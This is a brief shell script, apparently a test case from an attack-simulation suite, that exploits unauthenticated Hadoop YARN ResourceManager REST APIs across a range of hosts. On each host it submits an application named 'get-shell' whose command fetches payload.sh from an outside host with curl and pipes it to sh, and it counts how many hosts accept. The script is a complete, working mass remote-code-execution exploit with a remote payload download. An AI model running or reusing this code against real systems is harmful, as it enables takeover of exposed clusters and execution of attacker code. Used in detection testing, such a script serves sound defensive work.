#!/bin/sh
. /opt/case/case.sh

n=0
for h in $(seq 10 40); do
    curl -s -m 2 -X POST "http://198.51.100.$h:8080/ws/v1/cluster/apps/new-application" >/dev/null || continue
    curl -s -m 2 -X POST -H 'Content-Type: application/json' -d '{"application-id":"application_1","application-name":"get-shell","am-container-spec":{"commands":{"command":"curl http://203.0.113.10/payload.sh|sh"}},"application-type":"YARN"}' \
        "http://198.51.100.$h:8080/ws/v1/cluster/apps" >/dev/null && n=$((n + 1))
done
test $n -ge 25
took_place
